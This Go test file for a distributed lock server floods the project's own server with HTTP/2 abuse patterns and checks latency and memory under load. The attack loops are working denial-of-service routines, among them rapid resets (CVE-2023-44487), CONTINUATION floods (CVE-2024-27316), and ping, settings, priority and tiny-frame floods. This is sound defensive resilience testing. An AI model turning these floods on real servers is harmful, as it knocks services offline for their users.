//go:build linux

package e2e

import (
	"context"
	"flag"
	"fmt"
	"io"
	"net"
	"strings"
	"sync"
	"testing"
	"time"

	"golang.org/x/net/http2"
	healthpb "google.golang.org/grpc/health/grpc_health_v1"

	"github.com/distlock/distlock/internal/http2test"
	pb "github.com/distlock/distlock/proto/distlock/v1"
)

var attackers = flag.Int("attackers", 8, "connections that attack at once")

// attackEnv makes the test's binary a process that attacks in one way.
const attackEnv = "DISTLOCK_E2E_ATTACK"

// An attack on the protocol is what is done on one connection until it ends.
// The numbers are those of the vulnerabilities of this kind that other servers had.
var attackKinds = []struct { // the last is a measure of the machine
	name string
	on   func(*http2test.Conn) error
}{
	{"resets", func(c *http2test.Conn) error { // CVE-2023-44487
		for {
			id, err := c.Begin(pb.LockService_List_FullMethodName)
			if err == nil {
				err = c.WriteRSTStream(id, http2.ErrCodeCancel)
			}
			if err != nil {
				return err
			}
		}
	}},
	{"resets of calls that are served", func(c *http2test.Conn) error {
		msg, err := http2test.Message(&pb.ListRequest{PageSize: 1000})
		for err == nil {
			var id uint32
			id, err = c.Begin(pb.LockService_List_FullMethodName)
			if err == nil {
				err = c.WriteData(id, true, msg)
			}
			if err == nil {
				err = c.WriteRSTStream(id, http2.ErrCodeCancel)
			}
		}
		return err
	}},
	{"continuations", func(c *http2test.Conn) error { // CVE-2024-27316
		id, block := c.Headers(pb.LockService_List_FullMethodName)
		err := c.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block})
		for n := 0; err == nil; n++ {
			_, block := c.Headers("", fmt.Sprint("x-", n), strings.Repeat("x", 8000))
			err = c.WriteContinuation(id, false, block)
		}
		return err
	}},
	{"metadata", func(c *http2test.Conn) error {
		pad := strings.Repeat("x", 15<<10)
		for {
			if _, err := c.Begin(pb.LockService_List_FullMethodName, "x-pad", pad); err != nil {
				return err
			}
		}
	}},
	{"settings", func(c *http2test.Conn) error { // CVE-2019-9515
		for {
			if err := c.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1 << 20}); err != nil {
				return err
			}
		}
	}},
	{"pings", func(c *http2test.Conn) error { // CVE-2019-9512
		for {
			if err := c.WritePing(false, [8]byte{}); err != nil {
				return err
			}
		}
	}},
	{"windows", func(c *http2test.Conn) error {
		for {
			if err := c.WriteWindowUpdate(0, 1); err != nil {
				return err
			}
		}
	}},
	{"priorities", func(c *http2test.Conn) error { // CVE-2019-9513
		for n := uint32(1); ; n += 2 {
			if err := c.WritePriority(n&(1<<31-1), http2.PriorityParam{StreamDep: n + 2&(1<<31-1), Weight: byte(n)}); err != nil {
				return err
			}
		}
	}},
	{"empty frames", func(c *http2test.Conn) error { // CVE-2019-9518
		id, err := c.Begin(pb.StreamService_Multiplex_FullMethodName)
		for err == nil {
			err = c.WriteData(id, false, nil)
		}
		return err
	}},
	{"frames of one byte", func(c *http2test.Conn) error { // CVE-2019-9511
		id, err := c.Begin(pb.StreamService_Multiplex_FullMethodName)
		if err == nil {
			err = c.WriteData(id, false, []byte{0, 0, 15, 0, 0})
		}
		for err == nil {
			err = c.WriteData(id, false, []byte{0})
		}
		return err
	}},
	{"requests that lack their end", func(c *http2test.Conn) error {
		part := append([]byte{0, 0, 1, 0, 0}, make([]byte, 16<<10-5)...)
		for {
			id, err := c.Begin(pb.LockService_List_FullMethodName)
			for n := 0; n < 3 && err == nil; n++ {
				err = c.WriteData(id, false, part)
			}
			if err != nil {
				return err
			}
		}
	}},
	{"what comes behind a request", func(c *http2test.Conn) error {
		msg, err := http2test.Message(&pb.WatchRequest{Prefix: "other/"})
		rest := make([]byte, 16<<10) // empty messages
		for err == nil {
			var id uint32
			id, err = c.Begin(pb.LockService_Watch_FullMethodName)
			if err == nil {
				err = c.WriteData(id, false, msg)
			}
			for n := 0; n < 3 && err == nil; n++ {
				err = c.WriteData(id, false, rest)
			}
		}
		return err
	}},
	{"operations that nobody reads", func(c *http2test.Conn) error {
		err := c.WriteSettings(http2test.Lazy())
		var many pb.MultiplexRequest
		for i := range 1000 {
			many.Operations = append(many.Operations, &pb.Operation{Id: uint64(i + 1), Call: &pb.Operation_KeepAlive{KeepAlive: &pb.KeepAliveRequest{LeaseIds: []uint64{1}}}})
		}
		msg, _ := http2test.Message(&many)
		for err == nil {
			var id uint32
			id, err = c.Begin(pb.StreamService_Multiplex_FullMethodName)
			for n := len(msg); n < 60<<10 && err == nil; n += len(msg) {
				err = c.WriteData(id, false, msg)
			}
		}
		return err
	}},
	{"small answers that nobody reads", func(c *http2test.Conn) error {
		err := c.WriteSettings(http2test.Lazy())
		for err == nil {
			err = checkHealth(c)
		}
		return err
	}},
	{"very many headers", func(c *http2test.Conn) error {
		var more []string
		for i := range 440 {
			more = append(more, "x"+string(rune('a'+i%20))+string(rune('a'+i/20)), "")
		}
		for {
			if _, err := c.Begin(pb.LockService_List_FullMethodName, more...); err != nil {
				return err
			}
		}
	}},
	{"resets beside calls that are answered", func(c *http2test.Conn) error {
		for {
			err := checkHealth(c)
			for n := 0; n < 20 && err == nil; n++ {
				var id uint32
				if id, err = c.Begin(pb.LockService_List_FullMethodName); err == nil {
					err = c.WriteRSTStream(id, http2.ErrCodeCancel)
				}
			}
			if err != nil {
				return err
			}
		}
	}},
	{"health checks", func(c *http2test.Conn) error {
		for {
			if err := checkHealth(c); err != nil {
				return err
			}
		}
	}},
	{"slow headers", func(c *http2test.Conn) error {
		_, block := c.Headers(pb.LockService_List_FullMethodName)
		for i := range block {
			head := []byte{0, 0, 1, byte(http2.FrameContinuation), 0, 0, 0, 0, 1}
			if i == 0 {
				head[3] = byte(http2.FrameHeaders)
			}
			if _, err := c.Write(append(head, block[i])); err != nil {
				return err
			}
			time.Sleep(100 * time.Millisecond)
		}
		return io.EOF
	}},
	{"HTTP/1", nil},
}

// checkHealth asks for the health of the server.
func checkHealth(c *http2test.Conn) error {
	id, err := c.Begin(healthpb.Health_Check_FullMethodName)
	if err == nil {
		err = c.WriteData(id, true, make([]byte, 5))
	}
	return err
}

// itself attacks a listener of the attackers' own.
const itself = "pings to itself"

func init() {
	for _, k := range attackKinds {
		if k.name == "pings" {
			k.name = itself
			attackKinds = append(attackKinds, k)
			return
		}
	}
}

// attack does one of them on some connections at once, which it makes anew, until
// it is killed.
func attack(address, kind string) error {
	switch kind {
	case flooding:
		return flood(address)
	case itself: // what the same noise does that does not reach the server
		l, err := net.Listen("tcp", "127.0.0.1:0")
		if err != nil {
			return err
		}
		go func() {
			for {
				conn, err := l.Accept()
				if err != nil {
					return
				}
				go io.Copy(io.Discard, conn)
			}
		}()
		address = l.Addr().String()
	}
	for _, k := range attackKinds {
		if k.name != kind {
			continue
		}
		var group sync.WaitGroup
		for range *attackers {
			group.Go(func() {
				for {
					if k.on == nil {
						http1(address)
						continue
					}
					c, err := http2test.Open(address)
					if err != nil {
						time.Sleep(10 * time.Millisecond)
						continue
					}
					go io.Copy(io.Discard, c.Conn) // until it is closed
					k.on(c)
					c.Close()
				}
			})
		}
		group.Wait()
	}
	return fmt.Errorf("no attack %q", kind)
}

func http1(address string) {
	conn, err := net.Dial("tcp", address)
	if err != nil {
		return
	}
	defer conn.Close()
	conn.SetDeadline(time.Now().Add(time.Second))
	for range 100 {
		if _, err := io.WriteString(conn, "POST /distlock.v1.LockService/List HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\n\r\n\x00\x00\x00\x00\x00"); err != nil {
			return
		}
	}
	io.Copy(io.Discard, conn)
}

// attacked has a process attack the server until end.
func (s *server) attacked(kind string) (end func()) {
	s.t.Helper()
	cmd := idly(attackEnv, s.address, kind)
	if err := cmd.Start(); err != nil {
		s.t.Fatal(err)
	}
	return func() {
		cmd.Process.Kill()
		cmd.Wait()
	}
}

// TestAttackProtocol: what HTTP/2 lets a peer send for next to nothing costs others
// little, and the server no memory. The attackers are a process that gets what
// processor time the others leave: on a network they would have processors of their
// own.
func TestAttackProtocol(t *testing.T) {
	srv := startServer(t, "--in-memory")
	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Minute)
	defer cancel()
	quiet := newClient(t, srv.address)
	lists(t, ctx, quiet)
	grants(t, ctx, quiet)
	var table strings.Builder
	for _, k := range attackKinds {
		p50, p99 := grants(t, ctx, quiet)
		before := srv.memory()
		end := srv.attacked(k.name)
		peak := srv.peak()
		var during50, during99 time.Duration
		for until := time.Now().Add(time.Duration(*attacks) * time.Second); time.Now().Before(until); {
			during50, during99 = grants(t, ctx, quiet)
		}
		most := peak()
		end()
		fmt.Fprintf(&table, "%-32s p50 %8v, then %8v; p99 %8v, then %8v: %.1fx; %d MiB, then %d\n", k.name,
			p50.Round(time.Microsecond), during50.Round(time.Microsecond), p99.Round(time.Microsecond), during99.Round(time.Microsecond),
			float64(during99)/float64(p99), before>>20, most>>20)
		if most > before+400<<20 {
			t.Errorf("%s: the server took %d MiB, and %d before", k.name, most>>20, before>>20)
		}
	}
	t.Logf("a quiet client's grants, and the server's memory:\n%s", &table)
}
